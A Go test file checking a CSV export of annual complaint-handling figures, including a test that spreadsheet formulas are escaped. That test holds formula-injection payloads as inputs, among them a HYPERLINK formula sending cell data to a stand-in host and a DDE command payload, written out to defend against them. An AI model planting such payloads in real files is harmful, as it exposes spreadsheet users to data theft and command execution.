package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// readCSV checks the envelope (BOM, CRLF) and parses the table.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(b, []byte("\xEF\xBB\xBF")) {
		t.Fatalf("CSV does not start with a UTF-8 BOM: %q", b[:min(len(b), 20)])
	}
	b = b[3:]
	if !bytes.HasSuffix(b, []byte("\r\n")) || bytes.Count(b, []byte("\n")) != bytes.Count(b, []byte("\r\n")) {
		t.Errorf("CSV lines do not all end in CRLF")
	}
	r := csv.NewReader(bytes.NewReader(b))
	r.Comma = ';'
	r.FieldsPerRecord = 4
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, b)
	}
	return rows
}

func findRow(rows [][]string, section, item string) []string {
	for _, r := range rows {
		if r[0] == section && r[1] == item {
			return r
		}
	}
	return nil
}

func TestCSVFigures(t *testing.T) {
	org := OrgInfo{ID: "acme", Name: "Acme", Language: "nl", AcknowledgeWithin: "5 werkdagen", DecideWithin: "4 weken"}
	f := Compute(2026, org, smallYear(t))
	f, err := f.WithPrevious(Compute(2025, org, smallYear(t)))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := CSV(&buf, f); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	if want := []string{"onderdeel", "onderwerp", "2026", "2025"}; strings.Join(rows[0], "|") != strings.Join(want, "|") {
		t.Errorf("header = %q, want %q", rows[0], want)
	}
	tests := []struct{ section, item, cur, prev string }{
		{"Ontvangen klachten", "totaal", "9", "1"},
		{"Klachten per maand", "januari", "2", "0"},
		{"Klachten per maand", "december", "1", "1"},
		{"Onderwerpen", "Factuur", "4", "1"},
		{"Onderwerpen", "Overig", "1", "0"},
		{"Onderwerpen", "zonder onderwerp", "1", "0"},
		{"Hoe de klachten binnenkwamen", "onbekend", "1", "1"},
		{"Stand op 31 december", "vernietigd", "1", "0"},
		{"Oordelen", "deels gegrond", "1", "0"},
		{"Oordelen", "nog geen oordeel", "4", "1"},
		{"Ontvangstbevestiging", "op tijd", "5", "0"},
		{"Ontvangstbevestiging", "op tijd (%)", "83,3", ""},
		{"Beslissing (verlenging telt als op tijd)", "op tijd (%)", "66,7", ""},
		{"Beslissing (binnen de oorspronkelijke termijn)", "op tijd (%)", "42,9", ""},
		{"Beslissing (binnen de oorspronkelijke termijn)", "te laat", "4", "0"},
		{"Termijnen", "Mediaan dagen tot ontvangstbevestiging", "1", ""},
		{"Termijnen", "Mediaan dagen tot beslissing", "19", ""},
		{"Verlenging van de beslistermijn", "Verlengingen", "2", "0"},
		{"Hoor en wederhoor, beroep", "Dossiers in beroep", "1", "0"},
		{"Overeenstemming met de klager", "Overeenstemming (%)", "66,7", ""},
		{"Oorzaken", "KL-2026-0001", "Factuur dubbel verstuurd, zie […]", ""},
		{"Preventieve maatregelen", "KL-2026-0003", "Intakegesprek uitgebreid", ""},
		{"Redenen", "KL-2026-0005", "Complex dossier, klager belt […]", ""},
	}
	for _, tc := range tests {
		r := findRow(rows, tc.section, tc.item)
		if r == nil {
			t.Errorf("no row %s; %s", tc.section, tc.item)
			continue
		}
		if r[2] != tc.cur || r[3] != tc.prev {
			t.Errorf("row %s; %s = %q; %q, want %q; %q", tc.section, tc.item, r[2], r[3], tc.cur, tc.prev)
		}
	}
	// Numbers are unquoted (Excel reads them as numbers), texts quoted.
	if !strings.Contains(buf.String(), "\"Ontvangstbevestiging\";\"op tijd (%)\";83,3;\r\n") {
		t.Errorf("share row not written as a bare number:\n%s", buf.String())
	}
	// The same figures give the same bytes.
	var again bytes.Buffer
	if err := CSV(&again, f); err != nil || !bytes.Equal(again.Bytes(), buf.Bytes()) {
		t.Errorf("CSV is not deterministic (err %v)", err)
	}
}

// TestCSVEscaping feeds texts a spreadsheet would run, split or misread, as
// a frozen copy of figures might hold them, and checks each cell comes back
// as the same text, guarded.
func TestCSVEscaping(t *testing.T) {
	texts := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"klik")`, `'=HYPERLINK("http://evil.example/?"&A1,"klik")`},
		{"+31 6 1", "'+31 6 1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "' =1+1"},
		{"  =1+1", "'  =1+1"},
		{"a;b;c", "a;b;c"},
		{`hij zei "nee"`, `hij zei "nee"`},
		{"regel 1\nregel 2\r\nregel 3", "regel 1 regel 2 regel 3"},
		{"gewoon 1-2", "gewoon 1-2"},
		{"", ""},
	}
	var items []Item
	for i, tc := range texts {
		items = append(items, Item{Number: "=KL" + string(rune('A'+i)), Text: tc.in})
	}
	f := Compute(2026, OrgInfo{ID: "x", Name: "x", Language: "en"}, nil)
	f.Current.Causes = items
	f.Current.Subjects = []Count{{Key: "=cmd|' /C calc'!A0", N: 1}, {Key: "-", N: 2}}
	var buf bytes.Buffer
	if err := CSV(&buf, f); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	for i, tc := range texts {
		r := findRow(rows, "Causes", "'=KL"+string(rune('A'+i)))
		if r == nil {
			t.Errorf("no guarded row for %q:\n%s", tc.in, buf.String())
			continue
		}
		if r[2] != tc.want {
			t.Errorf("cell %q came back as %q, want %q", tc.in, r[2], tc.want)
		}
	}
	if findRow(rows, "Subjects", "'=cmd|' /C calc'!A0") == nil || findRow(rows, "Subjects", "'-") == nil {
		t.Errorf("subjects not guarded:\n%s", buf.String())
	}
	// No cell starts with a formula character, whatever the reader.
	for _, r := range rows {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(strings.TrimLeft(c, " ")[0])) {
				t.Errorf("unguarded cell %q", c)
			}
		}
	}
}

func TestCSVEmptyYear(t *testing.T) {
	f := Compute(2026, OrgInfo{ID: "x", Name: "x", Language: "en"}, nil)
	var buf bytes.Buffer
	if err := CSV(&buf, f); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	if r := findRow(rows, "Complaints received", "total"); r == nil || r[2] != "0" || r[3] != "" {
		t.Errorf("empty year total row = %q", r)
	}
	if r := findRow(rows, "Acknowledgement", "on time (%)"); r == nil || r[2] != "" {
		t.Errorf("empty year share row = %q, want an empty cell", r)
	}
	if err := CSV(&buf, Figures{}); err == nil {
		t.Error("CSV wrote figures without a version")
	}
}
